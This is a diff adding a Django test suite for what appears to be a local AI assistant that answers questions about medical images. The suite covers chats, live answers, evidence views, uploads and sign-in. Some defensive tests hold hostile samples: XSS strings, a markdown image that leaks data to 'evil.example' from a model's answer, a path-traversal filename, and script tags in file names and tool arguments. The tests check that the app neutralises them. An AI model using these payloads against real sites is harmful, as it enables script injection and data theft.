@@ -1,0 +1,471 @@
+"""The pages as alice meets them: chats, answers, evidence, uploads; with script and without."""
+
+import asyncio
+import io
+import re
+import uuid
+from pathlib import Path
+from typing import Any
+
+import data_store
+import pytest
+from django.contrib.auth.models import User
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import AsyncClient, Client
+from django.urls import reverse
+from PIL import Image as Picture
+
+from assistant import events, markdown, rendering, uploads
+from assistant.access import sign_in_link
+from assistant.models import Artifact, Conversation, Event, Image, Message, Report, Run
+from assistant.templatetags import lightbox
+from corpus.models import Paper, Passage
+
+pytestmark = pytest.mark.django_db(transaction=True)
+RADIOGRAPH = Path(data_store.__file__).parent / "data" / "RG1_UNCR.dcm"
+HTMX = {"HX-Request": "true"}
+
+
+@pytest.fixture
+def client(alice: User, client_of: Any) -> Client:
+    return client_of(alice)
+
+
+@pytest.fixture
+def conversation(alice: User) -> Conversation:
+    return Conversation.objects.create(owner=alice, title="Chest film")
+
+
+@pytest.fixture
+def radiograph(alice: User) -> Image:
+    return uploads.store(alice, SimpleUploadedFile("film.dcm", RADIOGRAPH.read_bytes()))
+
+
+def text_of(response: Any) -> str:
+    body: str = response.content.decode()
+    return body
+
+
+def running(conversation: Conversation, *said: events.AgentEvent) -> Run:
+    """A run in the middle of its work, with these events recorded."""
+    message = conversation.add(Message.USER, "A question")
+    run = conversation.runs.create(message=message, chat_model="guide", state=Run.RUNNING, attempt=1)
+    run.record(*said)
+    return run
+
+
+# Chats
+
+
+def test_the_first_page_offers_three_things_to_try_and_names_the_model(client):
+    page = text_of(client.get(reverse("home")))
+    assert page.count('class="tries"') == 1
+    assert page.count("<strong>") >= 3
+    assert "Guide, on this machine" in page
+    assert "Research use only, not for diagnosis" in page
+
+
+def test_alice_asks_and_lands_in_a_chat_named_after_her_question(client, alice):
+    response = client.post(reverse("chat-create"), {"text": "What is CLIP?"})
+    chat = Conversation.objects.get(owner=alice)
+    assert response.url == reverse("chat", args=[chat.pk])
+    assert "What is CLIP?" in text_of(client.get(response.url))
+    assert chat.title == "What is CLIP?"
+
+
+def test_the_sample_radiograph_is_one_click(client, alice):
+    client.post(reverse("chat-create"), {"text": "Segment the lungs in this radiograph", "sample": "1"})
+    chat = Conversation.objects.get(owner=alice)
+    assert chat.numbered_images.get().image.modality != "unknown"
+
+
+def test_with_htmx_a_new_chat_is_a_redirect_of_the_window(client):
+    response = client.post(reverse("chat-create"), {"text": "Hello"}, headers=HTMX)
+    assert response["HX-Redirect"].startswith("/chats/")
+
+
+def test_an_empty_question_is_refused_in_one_line(client, conversation):
+    response = client.post(reverse("chat-send", args=[conversation.pk]), {"text": "  "}, headers=HTMX)
+    assert response.status_code == 422
+    assert text_of(response) == "Write a question, or attach an image."
+
+
+def test_a_question_while_one_is_being_answered_is_refused_and_starts_nothing(client, conversation):
+    running(conversation)
+    response = client.post(reverse("chat-send", args=[conversation.pk]), {"text": "And?"}, headers=HTMX)
+    assert response.status_code == 409
+    assert "\n" not in text_of(response)
+    assert conversation.runs.count() == 1
+
+
+def test_sending_appends_the_question_the_live_answer_and_the_stop_button(client, conversation):
+    response = client.post(reverse("chat-send", args=[conversation.pk]), {"text": "What is <CLIP>?"}, headers=HTMX)
+    page = text_of(response)
+    run = conversation.runs.get()
+    assert "What is &lt;CLIP&gt;?" in page
+    assert f'sse-connect="/runs/{run.pk}/events/?after=0"' in page
+    assert f"/runs/{run.pk}/cancel/" in page
+    assert "<html" not in page
+
+
+def test_without_script_sending_shows_the_page_again(client, conversation):
+    response = client.post(reverse("chat-send", args=[conversation.pk]), {"text": "What is CLIP?"})
+    assert response.status_code == 302
+    assert response.url == reverse("chat", args=[conversation.pk]) + "#end"
+
+
+def test_another_persons_image_cannot_be_attached(client, conversation, bob):
+    theirs = uploads.store(bob, SimpleUploadedFile("film.dcm", RADIOGRAPH.read_bytes()))
+    data = {"text": "Look", "images": str(theirs.pk)}
+    response = client.post(reverse("chat-send", args=[conversation.pk]), data, headers=HTMX)
+    assert response.status_code == 422
+    assert not conversation.numbered_images.exists()
+
+
+def test_rename(client, conversation):
+    client.post(reverse("chat-rename", args=[conversation.pk]), {"title": "Follow-up"})
+    conversation.refresh_from_db()
+    assert conversation.title == "Follow-up"
+    refused = client.post(reverse("chat-rename", args=[conversation.pk]), {"title": "x" * 121}, headers=HTMX)
+    assert refused.status_code == 422
+    assert text_of(refused) == "A title has at most 120 characters."
+
+
+def test_delete_takes_the_chat_and_its_images_with_it(client, conversation, radiograph):
+    conversation.add(Message.USER, "Look", [radiograph])
+    path = radiograph.original.path
+    client.post(reverse("chat-delete", args=[conversation.pk]))
+    assert not Conversation.objects.exists()
+    assert not Path(path).exists()
+
+
+def test_deleting_a_chat_that_is_being_answered_stops_it_first(client, conversation):
+    running(conversation, events.TextDelta("Some"))
+    assert client.post(reverse("chat-delete", args=[conversation.pk])).status_code == 302
+    assert not Run.objects.exists()
+
+
+def test_search_finds_words_of_titles_and_messages(client, conversation, alice):
+    conversation.add(Message.USER, "Is there an effusion?")
+    Conversation.objects.create(owner=alice, title="Retina")
+    page = text_of(client.get(reverse("chat-search"), {"q": "effusion"}))
+    assert "Chest film" in page.split("<main")[1]
+    assert "Retina" not in page.split("<main")[1]
+    part = text_of(client.get(reverse("chat-search"), {"q": "retina"}, headers=HTMX | {"HX-Target": "chat-list"}))
+    assert "Retina" in part
+    assert "<html" not in part
+    assert "No chat has these words" in text_of(client.get(reverse("chat-search"), {"q": "zzz"}))
+
+
+# Live answers
+
+
+def blocks_shown(html: str) -> list[str]:
+    return re.findall(r'id="(b[0-9a-f]+-\d+(?:-\d+)?)"', html)
+
+
+def test_a_page_loaded_in_the_middle_goes_on_from_there(client, conversation):
+    run = running(conversation, events.TextDelta("One.\n\nTwo"), events.TextDelta(" and"))
+    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    assert f"/runs/{run.pk}/events/?after=2" in page
+    assert "Two and" in page
+    assert 'class="stop' in page
+
+
+def test_only_what_changed_is_sent(conversation):
+    run = running(conversation)
+    transcript = events.Transcript()
+    transcript.add(1, "text", {"text": "First paragraph.\n\nSecond"})
+    old = rendering.blocks(run.pk, transcript)
+    transcript.add(2, "text", {"text": " goes on."})
+    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
+    assert "Second goes on." in html
+    assert "First paragraph" not in html
+
+
+def test_a_step_that_changes_sends_only_its_line_so_that_it_stays_open(conversation):
+    run = running(conversation)
+    transcript = events.Transcript()
+    transcript.add(1, "requested", {"call_id": "a", "name": "segment", "arguments": {"image": "img1"}, "number": 1})
+    old = rendering.blocks(run.pk, transcript)
+    transcript.add(2, "finished", {"number": 1, "state": "done", "summary": "2 masks", "seconds": 0.06})
+    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
+    assert "<details" not in html
+    assert "2 masks" in html
+    assert "60 ms" in html
+
+
+def test_a_step_that_is_written_again_takes_back_its_words(conversation):
+    run = running(conversation)
+    transcript = events.Transcript()
+    transcript.add(1, "text", {"text": "Half a sent"})
+    old = rendering.blocks(run.pk, transcript)
+    transcript.add(2, "restarted", {})
+    html = rendering.difference(run, old, rendering.blocks(run.pk, transcript))
+    assert 'hx-swap-oob="delete"' in html
+
+
+async def _heard(user: User, url: str, headers: dict[str, str] | None = None) -> str:
+    client = AsyncClient()
+    await client.aforce_login(user)
+    response = await client.get(url, headers=headers or {})
+    assert response["Cache-Control"] == "no-cache"
+    assert response["X-Accel-Buffering"] == "no"
+    pieces = [piece.decode() async for piece in response.streaming_content]
+    return "".join(pieces)
+
+
+def finished(conversation: Conversation) -> Run:
+    run = running(conversation, *(events.TextDelta(f"w{i} ") for i in range(5)))
+    run.answer = conversation.add(Message.ASSISTANT, run.transcript().text)
+    run.leave(Run.DONE, events.Answered("w0 w1 w2 w3 w4"))
+    return run
+
+
+def test_the_stream_ends_with_the_finished_answer_wherever_it_begins(conversation, alice):
+    run = finished(conversation)
+    url = reverse("run-events", args=[run.pk])
+    whole, late, over = (asyncio.run(_heard(alice, f"{url}?after={n}")) for n in (0, 3, 99))
+    for heard in (whole, late, over):
+        assert heard.rstrip().endswith("event: end\ndata:")
+        assert "w0 w1 w2 w3 w4" in heard
+        assert "Research use only, not for diagnosis." in heard
+    assert asyncio.run(_heard(alice, f"{url}?after=0", {"Last-Event-ID": "3"})) == late
+
+
+@pytest.mark.parametrize("after", ["", "-1", "x", "9" * 30, "²"])
+def test_a_strange_cursor_is_the_beginning(after, conversation, alice):
+    url = reverse("run-events", args=[finished(conversation).pk])
+    assert "w0 w1 w2 w3 w4" in asyncio.run(_heard(alice, f"{url}?after={after}"))
+
+
+def test_stopping_keeps_what_was_said_and_says_so(client, conversation):
+    run = running(conversation, events.TextDelta("The first half"))
+    assert client.post(reverse("run-cancel", args=[run.pk]), headers=HTMX).status_code == 204
+    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    assert "The first half" in page
+    assert "Stopped" in page
+    assert "sse-connect" not in page
+    assert page.count("The first half") == 1
+
+
+def test_words_and_steps_stay_in_their_order_when_the_answer_is_done(client, conversation):
+    run = running(
+        conversation,
+        events.TextDelta("I look first."),
+        events.ToolRequested("a", "describe_image", {"image": "img1"}, 1),
+        events.ToolFinished(1, "done", "1841 x 1955", 0.2),
+        events.TextDelta("It is large."),
+    )
+    run.answer = conversation.add(Message.ASSISTANT, run.transcript().text)
+    run.leave(Run.DONE, events.Answered(run.transcript().text))
+    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    assert page.index("I look first.") < page.index("1841 x 1955") < page.index("It is large.")
+
+
+def test_hostile_words_of_a_model_stay_words(client, conversation):
+    bad = '<img src=x onerror=alert(1)> <script>alert(1)</script> ![x](http://evil.example/?leak) "><b>'
+    run = running(conversation, events.TextDelta(bad))
+    live = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    run.answer = conversation.add(Message.ASSISTANT, bad)
+    run.leave(Run.DONE, events.Answered(bad))
+    done = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    for page in (live, done):
+        assert "<script>alert" not in page
+        assert "<img src=x" not in page
+        assert "evil.example" not in page
+
+
+def test_hostile_arguments_and_file_names_stay_words(client, conversation, radiograph):
+    Image.objects.update(name='"><script>alert(1)</script>.png')
+    conversation.add(Message.USER, "Look", [Image.objects.get()])
+    running(conversation, events.ToolRequested("a", "<script>x", {"image": "<script>alert(2)</script>"}, 1))
+    page = text_of(client.get(reverse("chat", args=[conversation.pk])))
+    assert "<script>alert" not in page
+    assert "<script>x" not in page
+
+
+# Evidence
+
+
+@pytest.fixture
+def answered(client, conversation, radiograph, eager_celery) -> Run:
+    """Alice's radiograph, segmented by the real tools."""
+    data = {"text": "Segment the lungs", "images": str(radiograph.pk)}
+    client.post(reverse("chat-send", args=[conversation.pk]), data)
+    return Run.objects.select_related("answer").get()
+
+
+def test_a_mask_chip_opens_the_image_with_that_layer_lit(client, answered):
+    page = text_of(client.get(reverse("evidence", args=[answered.answer_id, 2]), headers=HTMX))
+    lit = Artifact.objects.get(number=2)
+    assert f'class="overlay lit" id="overlay-{lit.pk}"' in page
+    assert page.count('class="overlay') == 2
+    assert "<html" not in page
+    assert "<html" in text_of(client.get(reverse("evidence", args=[answered.answer_id, 2])))
+
+
+def test_an_overlay_is_see_through_outside_its_mask(client, answered, radiograph):
+    mask = Artifact.objects.get(number=1)
+    raw = Picture.open(io.BytesIO(client.get(reverse("artifact", args=[mask.pk])).content))
+    overlay = Picture.open(io.BytesIO(client.get(reverse("artifact-overlay", args=[mask.pk])).content)).convert("RGBA")
+    assert overlay.size == raw.size == (radiograph.width, radiograph.height)
+    alpha = overlay.getchannel("A")
+    assert alpha.getbbox() == raw.convert("L").getbbox()
+    assert overlay.getpixel((0, 0))[3] == 0
+
+
+def test_a_preview_comes_in_small_for_a_first_look(client, radiograph):
+    url = reverse("image-preview", args=[radiograph.pk])
+    small = Picture.open(io.BytesIO(client.get(url, {"w": "96"}).content))
+    assert small.width == 96
+    assert Picture.open(io.BytesIO(client.get(url, {"w": "7777"}).content)).width == radiograph.width
+
+
+def test_the_original_is_saved_and_never_shown(client, radiograph):
+    response = client.get(reverse("image-original", args=[radiograph.pk]))
+    assert response["Content-Disposition"] == f'attachment; filename="image-{radiograph.pk.hex[:8]}.dcm"'
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response.content == RADIOGRAPH.read_bytes()
+
+
+def test_a_source_chip_opens_the_passage_with_the_quote_marked(client, conversation):
+    paper = Paper.objects.create(key="a2024b", title="A paper", year=2024, annotation="x", evidence="abstract")
+    text = "Before it. The <quoted> words. After it."
+    passage = Passage.objects.create(paper=paper, kind="annotation", ordinal=0, text=text, start=0, end=len(text))
+    reference = {
+        "n": 1,
+        "ref": f"p{passage.pk}",
+        "kind": "passage",
+        "passage_id": passage.pk,
+        "key": paper.key,
+        "title": paper.title,
+        "quote": "The <quoted> words.",
+        "start": 11,
+        "end": 30,
+        "verified": True,
+    }
+    answer = conversation.add(Message.ASSISTANT, f"The quoted words. [[p{passage.pk}]]", references=[reference])
+    page = text_of(client.get(reverse("evidence", args=[answer.pk, 1]), headers=HTMX))
+    assert "<mark>The &lt;quoted&gt; words.</mark>" in page
+    assert reverse("corpus:paper", args=["a2024b"]) in page
+    assert "annotation written from the abstract" in page
+    assert client.get(reverse("evidence", args=[answer.pk, 2])).status_code == 404
+
+
+def test_a_step_opens_to_its_arguments_and_result(client, answered):
+    call = answered.tool_calls.get()
+    page = text_of(client.get(reverse("run-call", args=[answered.pk, call.number]), headers=HTMX))
+    assert "img1" in page
+    assert "classical baseline" in page
+    assert "<html" not in page
+
+
+def test_a_report_has_a_page_and_a_word_file(client, answered, conversation, eager_celery):
+    client.post(reverse("chat-send", args=[conversation.pk]), {"text": "Draft a report"})
+    report = Report.objects.get()
+    page = text_of(client.get(reverse("report", args=[report.pk])))
+    assert "Findings" in page
+    assert "not reviewed by anyone" in page
+    word = client.get(reverse("report-docx", args=[report.pk]))
+    assert word.content.startswith(b"PK")
+    assert "attachment" in word["Content-Disposition"]
+    assert report.title in text_of(client.get(reverse("reports")))
+
+
+# Uploads
+
+
+def test_an_upload_becomes_an_attachment_with_a_thumbnail(client):
+    file = SimpleUploadedFile("../../film.dcm", RADIOGRAPH.read_bytes())
+    part = text_of(client.post(reverse("image-upload"), {"file": file}, headers=HTMX))
+    image = Image.objects.get()
+    assert f'name="images" value="{image.pk}"' in part
+    assert "?w=96" in part
+
+
+@pytest.mark.parametrize("body", [b"hello", b"%PDF-1.7 no image", b"\x89PNG\r\n\x1a\nbroken"])
+def test_a_bad_file_is_refused_in_one_line(client, body):
+    response = client.post(reverse("image-upload"), {"file": SimpleUploadedFile("x.png", body)}, headers=HTMX)
+    assert response.status_code == 422
+    assert text_of(response).strip().count("\n") == 0
+    assert "<" not in text_of(response)
+
+
+def test_a_file_over_the_limit_is_413(client, settings):
+    settings.UPLOAD_LIMIT = 1024
+    file = SimpleUploadedFile("film.dcm", RADIOGRAPH.read_bytes())
+    response = client.post(reverse("image-upload"), {"file": file}, headers=HTMX)
+    assert response.status_code == 413
+
+
+def test_without_script_an_upload_comes_back_to_the_composer(client):
+    file = SimpleUploadedFile("film.dcm", RADIOGRAPH.read_bytes())
+    page = text_of(client.post(reverse("image-upload"), {"file": file}, follow=True))
+    assert f'name="images" value="{Image.objects.get().pk}"' in page
+
+
+# Coming in, and what every answer carries
+
+
+def test_the_sign_in_link_works_once(db):
+    link = sign_in_link("http://testserver")
+    first, second = Client(), Client()
+    assert first.get(link).url == reverse("home")
+    refused = second.get(link)
+    assert refused.status_code == 403
+    assert "manage.py signin" in text_of(refused)
+
+
+def test_a_preview_of_the_link_does_not_use_it_up(db):
+    link = sign_in_link("http://testserver")
+    assert Client().head(link).status_code == 403
+    assert Client().get(link).status_code == 302
+
+
+def test_with_accounts_there_is_a_login_page(settings, alice):
+    settings.MULTI_USER = True
+    client = Client()
+    assert "password" in text_of(client.get(reverse("sign-in")))
+    data = {"username": "alice", "password": "alice"}
+    assert client.post(reverse("sign-in"), data).url == reverse("home")
+
+
+def test_the_models_page_says_what_is_not_configured_and_how_to(client):
+    page = text_of(client.get(reverse("models")))
+    assert "not configured" in page
+    assert "LIGHTBOX_VQA" in page
+
+
+def test_pages_carry_no_inline_script_or_style(client, answered, conversation):
+    for url in (reverse("home"), reverse("chat", args=[conversation.pk]), reverse("models"), reverse("chat-search")):
+        response = client.get(url)
+        assert "script-src 'self'" in response["Content-Security-Policy"]
+        assert not re.search(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=|<style", text_of(response)), url
+
+
+def test_a_page_that_is_not_there_says_so_calmly(client):
+    response = client.get(f"/chats/{uuid.uuid4()}/")
+    assert response.status_code == 404
+    assert "Nothing is here" in text_of(response)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "words"),
+    [(0.06, "60 ms"), (0.0001, "1 ms"), (0.41, "0.4 s"), (12.3, "12 s"), (180, "3 min"), (None, "")],
+)
+def test_times_are_short(seconds, words):
+    assert lightbox.took(seconds) == words
+
+
+def test_the_number_of_queries_does_not_grow_with_the_events(client, conversation, django_assert_max_num_queries):
+    run = running(conversation)
+    Event.objects.bulk_create(Event(run=run, seq=i, kind="text", payload={"text": "w "}) for i in range(1, 400))
+    with django_assert_max_num_queries(30):
+        client.get(reverse("chat", args=[conversation.pk]))
+
+
+def test_a_marker_that_is_streamed_is_never_seen_raw():
+    said = "Words. [[p12]] More [[c3.1]]."
+    for end in range(len(said) + 1):
+        assert "[[" not in markdown.render(said[:end], live=True)
